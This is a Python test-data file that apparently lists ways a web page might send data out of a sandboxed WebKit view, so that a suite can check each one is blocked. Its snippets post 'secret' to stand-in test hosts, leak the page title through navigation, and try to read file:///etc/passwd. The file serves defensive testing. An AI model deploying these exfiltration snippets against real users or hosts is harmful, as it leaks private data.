# SPDX-License-Identifier: GPL-3.0-or-later
"""The ways out of a page that escape.py tries.

Each has a number N: its host is vN.melete.test, which the suite's own DNS resolves to 198.51.100.N, so that every packet says whose it is.
"""

# (name, HTML, why nothing goes out even with the defences off, what the console shows)
#
# HTML: {n} is the number, {u} is https://HOST/, {h} the host, {ip} its address. The third is None for what does go out; the fourth is a pattern, None for the host's name, or SILENT and the reason.
SILENT = 'silent: '
# ... or this and a reason in the third, for what goes out on some days.
SOMETIMES = 'sometimes: '

PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII='


def script(code):
    return f'<script>try {{ {code} }} catch (error) {{ console.error("threw " + error); }}</script>'


def worker(kind, code):
    """A worker made of a text, which runs `code`."""
    return script(f'new {kind} (URL.createObjectURL (new Blob ([{code!r}], {{ type: "text/javascript" }})));')


IN_WORKER = SILENT + 'a worker is denied what the page is, but tells its violations to itself'
NO_SIGN = SILENT + 'WebKit drops it without a sign to the page or to us'

# Those that can be tried beside each other in one page.
LOADS = [
    ('fetch', script('fetch ("{u}").catch (() => 0);'), None, None),
    ('fetch of an address', script('fetch ("https://{ip}/").catch (() => 0);'), None, '{ip}'),
    ('fetch without CORS, kept alive', script('fetch ("{u}", { mode: "no-cors", keepalive: true, method: "POST", body: "secret" }).catch (() => 0);'), None, None),
    ('XMLHttpRequest', script('const r = new XMLHttpRequest (); r.open ("POST", "{u}"); r.send ("secret");'), None, None),
    ('sendBeacon', script('navigator.sendBeacon ("{u}", "secret");'), None, r'{h}|threw TypeError'),
    ('EventSource', script('new EventSource ("{u}");'), None, None),
    ('WebSocket', script('new WebSocket ("wss://{h}/");'), None, None),
    ('WebTransport', script('new WebTransport ("{u}");'), 'not in this WebKit', 'WebTransport'),
    ('RTCPeerConnection', script('const p = new RTCPeerConnection ({ iceServers: [{ urls: "stun:{h}:3478" }] }); p.createDataChannel ("x"); p.createOffer ().then ((o) => p.setLocalDescription (o));'),
     'not in this WebKit', 'RTCPeerConnection'),
    ('preconnect', '<link rel="preconnect" href="{u}">', None, None),
    ('preload', '<link rel="preload" as="image" href="{u}a.png">', None, None),
    ('prefetch', '<link rel="prefetch" href="{u}">', None, None),
    ('modulepreload', '<link rel="modulepreload" href="{u}a.js">', None, None),
    ('link added by a script', script('const l = document.createElement ("link"); l.rel = "preconnect"; l.href = "{u}"; document.head.append (l);'), None, None),
    ('img', '<img src="{u}a.png" alt="">', None, None),
    ('img srcset', '<img srcset="{u}a.png 1x, {u}b.png 2x" alt="">', None, None),
    ('picture', '<picture><source srcset="{u}a.png"><img src="' + PNG + '" alt=""></picture>', None, None),
    ('Image ()', script('new Image ().src = "{u}a.png";'), None, None),
    ('CSS background', '<style>#bg{n} { background: url("{u}a.png"); width: 9px; height: 9px; }</style><div id="bg{n}"></div>', None, None),
    ('CSS content', '<style>#co{n}::before { content: url("{u}a.png"); }</style><div id="co{n}"></div>', None, None),
    ('CSS image-set', '<style>#is{n} { background: image-set("{u}a.png" 1x); width: 9px; height: 9px; }</style><div id="is{n}"></div>', None, None),
    ('CSS cursor and list-style', '<ul style="list-style-image: url({u}a.png); cursor: url({u}b.png), auto"><li>x</ul>', None, None),
    ('CSS mask', '<div style="-webkit-mask-image: url({u}a.png); background: red; width: 9px; height: 9px"></div>', None, None),
    ('CSS @import', '<style>@import url("{u}a.css");</style>', None, None),
    ('CSS @font-face', '<style>@font-face { font-family: f{n}; src: url("{u}a.woff2"); }</style><p style="font-family: f{n}">x</p>', None, None),
    ('FontFace ()', script('new FontFace ("g{n}", "url({u}a.woff2)").load ().catch (() => 0);'), None, None),
    ('stylesheet', '<link rel="stylesheet" href="{u}a.css">', None, None),
    ('SVG image', '<svg width="9" height="9"><image href="{u}a.png" width="9" height="9"/></svg>', None, None),
    ('SVG use', '<svg width="9" height="9"><use href="{u}a.svg#x"/></svg>', 'WebKit loads what is used only from the same origin', NO_SIGN),
    ('SVG feImage', '<svg width="9" height="9"><filter id="fi{n}"><feImage href="{u}a.png"/></filter><rect width="9" height="9" filter="url(#fi{n})"/></svg>', None, None),
    ('SVG foreignObject', '<svg width="9" height="9"><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{u}a.png" alt=""/></foreignObject></svg>', None, None),
    ('SVG in an image', '<img alt="" src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{u}a.png%22/></svg>">', 'images within images load nothing', NO_SIGN),
    ('video', '<video src="{u}a.webm" autoplay muted></video>', None, None),
    ('video source', '<video autoplay muted><source src="{u}a.webm" type="video/webm"></video>', None, None),
    ('video poster', '<video poster="{u}a.png"></video>', None, None),
    ('audio', '<audio src="{u}a.ogg" preload="auto"></audio>', None, None),
    ('track', '<video src="data:video/webm;base64,AAAA"><track default kind="subtitles" src="{u}a.vtt"></video>' + script('document.querySelectorAll ("track").forEach ((t) => t.track.mode = "showing");'), None, None),
    ('object', '<object data="{u}a.html"></object>', None, None),
    ('embed', '<embed src="{u}a.html">', None, None),
    ('iframe', '<iframe src="{u}"></iframe>', None, None),
    ('iframe srcdoc', '<iframe srcdoc="<img src={u}a.png>"></iframe>', None, r'about:srcdoc|{h}'),
    ('iframe of a blob', script('const f = document.createElement ("iframe"); f.src = URL.createObjectURL (new Blob (["<img src={u}a.png>"], { type: "text/html" })); document.documentElement.append (f);'), None, r'blob'),
    ('iframe of data', '<iframe src="data:text/html,<img src={u}a.png>"></iframe>', None, r'data'),
    ('about:blank frame written to', script('const f = document.createElement ("iframe"); document.documentElement.append (f); f.contentDocument.write ("<img src={u}a.png>");'), None, r'about:blank|threw|{h}'),
    ('frame of another world', script('const f = document.createElement ("iframe"); document.documentElement.append (f); f.contentWindow.fetch ("{u}").catch (() => 0);'), None, r'about:blank|threw|{h}'),
    ('script', '<script src="{u}a.js"></script>', None, None),
    ('module script', '<script type="module" src="{u}a.js"></script>', None, None),
    ('import ()', script('import ("{u}a.js").catch (() => 0);'), None, None),
    ('Worker', worker('Worker', 'fetch ("{u}").catch (() => 0)'), None, IN_WORKER),
    ('Worker from elsewhere', script('new Worker ("{u}a.js");'), 'workers are only from the same origin', r'{h}|threw'),
    ('importScripts', worker('Worker', 'importScripts ("{u}a.js")'), None, IN_WORKER),
    ('WebSocket in a worker', worker('Worker', 'new WebSocket ("wss://{h}/")'), None, IN_WORKER),
    ('SharedWorker', worker('SharedWorker', 'fetch ("{u}").catch (() => 0)'), None, r'threw'),
    ('ServiceWorker', script('navigator.serviceWorker.register ("{u}a.js").catch ((e) => console.error ("threw " + e));'), 'only where the page itself comes by HTTPS', r'threw'),
    ('background sync', script('navigator.serviceWorker.ready.then ((r) => r.sync.register ("{u}")); new SyncManager ();'), 'not in this WebKit', r'threw'),
    ('icon', '<link rel="icon" href="{u}a.png">', 'the application has no store of icons', NO_SIGN),
    ('manifest', '<link rel="manifest" href="{u}a.json">', 'WebKit loads it only when an application asks', NO_SIGN),
    ('input of type image', '<input type="image" src="{u}a.png" alt="">', None, None),
    ('background attribute', '<table background="{u}a.png"><tr><td>x</table>', None, None),
    ('CSP report', '<meta http-equiv="Content-Security-Policy" content="report-uri {u}; frame-src none">', 'reports are not sent for a policy in the page', NO_SIGN),
    ('Reporting API', script('new ReportingObserver (() => 0).observe (); fetch ("{u}", { method: "POST", body: "[]" }).catch (() => 0);'), None, None),
    ('base and a relative image', '<base href="{u}"><img src="{u}a.png" alt="">', None, None),
    ('XSLT', script('const x = new XSLTProcessor (); x.importStylesheet (new DOMParser ().parseFromString (\'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:import href="{u}a.xsl"/></x:stylesheet>\', "text/xml"));'
                    ' x.transformToFragment (new DOMParser ().parseFromString ("<a/>", "text/xml"), document);'), 'WebKit imports only from the same origin', NO_SIGN),
    ('document.write of an image', script('document.write ("<img src={u}a.png>");'), None, None),
    ('template of everything', script('const t = document.createElement ("template"); t.innerHTML = "<img src={u}a.png><link rel=preconnect href={u}>"; document.body.append (t.content);'), None, None),
    ('shadow tree', script('const e = document.createElement ("div"); document.body.append (e); e.attachShadow ({ mode: "closed" }).innerHTML = "<style>:host { background: url({u}a.png); width: 9px; height: 9px; display: block }</style>";'), None, None),
    ('web animation', script('document.body.animate ({ backgroundImage: ["url({u}a.png)", "none"] }, 100);'), None, None),
    ('file of the machine', script('fetch ("file:///etc/passwd").then ((r) => r.text ()).then ((t) => console.log ("READ " + t.length), () => 0);'), 'no packet: it must not be read', r'file:'),
    ('image of the machine', '<img src="file:///usr/share/pixmaps/debian-logo.png" alt="" onload="console.log (\'READ\')">', 'no packet: it must not be read', r'file:'),
    ('FTP', script('fetch ("ftp://{h}/").catch (() => 0);'), 'WebKit knows no FTP', None),
]

# Those that lead away or open something: each has a page of its own.
LEAVES = [
    ('dns-prefetch', '<link rel="dns-prefetch" href="{u}">', SOMETIMES + 'WebKit looks names ahead up only when it has nothing else to do', None),
    ('location', script('location = "{u}?" + document.title;'), None, None),
    ('location.replace', script('location.replace ("{u}");'), None, None),
    ('link with a secret in the host', '<a id="a" href="https://secret.{h}/">x</a>' + script('a.click ();'), None, None),
    ('link to a new window', '<a id="a" target="_blank" href="{u}">x</a>' + script('a.click ();'), None, None),
    ('link to a download', '<a id="a" download="x.txt" href="{u}">x</a>' + script('a.click ();'), None, None),
    ('link with ping', '<a id="a" href="#x" ping="{u}">x</a>' + script('a.click ();'), None, NO_SIGN),
    ('link in an SVG', '<svg width="50" height="50"><a id="a" href="{u}"><rect width="50" height="50"/></a></svg>' + script('a.dispatchEvent (new MouseEvent ("click", { bubbles: true, cancelable: true }));'), None, None),
    ('map', '<map name="m"><area id="a" shape="rect" coords="0,0,9,9" href="{u}"></map>' + script('a.click ();'), None, None),
    ('form by GET', '<form id="f" action="{u}"><input name="q" value="secret"></form>' + script('f.submit ();'), None, None),
    ('form by POST', '<form id="f" method="post" action="{u}"><input name="q" value="secret"></form>' + script('f.submit ();'), None, None),
    ('form to a new window', '<form id="f" target="_blank" action="{u}"></form>' + script('f.submit ();'), None, None),
    ('button with formaction', '<form><button id="b" formaction="{u}">x</button></form>' + script('b.click ();'), None, None),
    ('window.open', script('window.open ("{u}");'), None, None),
    ('window.open of nothing, then elsewhere', script('const w = window.open ("about:blank"); w.location = "{u}";'), None, r'about:blank|{h}'),
    ('meta refresh', '<meta http-equiv="refresh" content="0; url={u}">', None, None),
    ('document.write of a refresh', script('document.write (\'<meta http-equiv="refresh" content="0; url={u}">\');'), None, None),
    ('document that is opened anew', script('setTimeout (() => { document.open (); document.write ("<img src={u}a.png><p>x"); document.close (); }, 200);'), None, None),
    ('blob as a page', script('location = URL.createObjectURL (new Blob (["<img src={u}a.png>"], { type: "text/html" }));'), None, r'blob'),
    ('data as a page', script('location = "data:text/html,<img src={u}a.png>";'), 'WebKit goes to data only when a person says so', r'data:'),
    ('javascript: as an address', script('location = "javascript:fetch (\'{u}\').catch (() => 0), undefined";'), None, None),
    ('history', script('history.pushState (0, "", "/x?y"); history.replaceState (0, "", "index.html"); history.back (); fetch ("{u}").catch (() => 0);'), None, None),
    ('postMessage to a frame that leaves', '<iframe name="f"></iframe>' + script('frames.f.location = "{u}";'), None, r'about:blank|{h}'),
    ('another scheme', script('location = "mailto:a@{h}?body=secret";'), 'no packet: no other program may start', r'mailto:'),
    ('another page of ours', script('location = "melete-page://other/index.html";'), 'no packet: it must stay where it is', r'melete-page://other'),
]

# What asks something of the person or of the machine, and what the page then says of it: never with what must not be there.
ASKS = [
    ('geolocation', script('navigator.geolocation ? navigator.geolocation.getCurrentPosition (() => melete.report ("said", "granted"), () => melete.report ("said", "denied")) : melete.report ("said", "absent");')),
    ('camera', script('navigator.mediaDevices ? navigator.mediaDevices.getUserMedia ({ video: true, audio: true }).then (() => melete.report ("said", "granted"), () => melete.report ("said", "denied")) : melete.report ("said", "absent");')),
    ('screen', script('navigator.mediaDevices?.getDisplayMedia ? navigator.mediaDevices.getDisplayMedia ().then (() => melete.report ("said", "granted"), () => melete.report ("said", "denied")) : melete.report ("said", "absent");')),
    ('notifications', script('window.Notification ? Notification.requestPermission ().then ((p) => melete.report ("said", p)) : melete.report ("said", "absent");')),
    ('clipboard', script('navigator.clipboard ? navigator.clipboard.readText ().then (() => melete.report ("said", "granted"), () => melete.report ("said", "denied")) : melete.report ("said", "absent");')),
    ('full screen', script('document.documentElement.requestFullscreen ? document.documentElement.requestFullscreen ().then (() => melete.report ("said", "granted"), () => melete.report ("said", "denied")) : melete.report ("said", "absent");')),
    ('storage that stays', script('navigator.storage?.persist ? navigator.storage.persist ().then ((p) => melete.report ("said", p ? "granted" : "denied")) : melete.report ("said", "absent");')),
    ('file', '<input id="i" type="file">' + script('i.click (); melete.report ("said", i.files.length ? "granted" : "denied");')),
    ('print', script('print (); melete.report ("said", "denied");')),
    ('channel of ours', script('melete.report ("said", window.webkit?.messageHandlers?.melete ? "granted" : "absent");')),
    ('cookies', script('document.cookie = "a=b"; melete.report ("said", document.cookie ? "granted" : "denied");')),
]
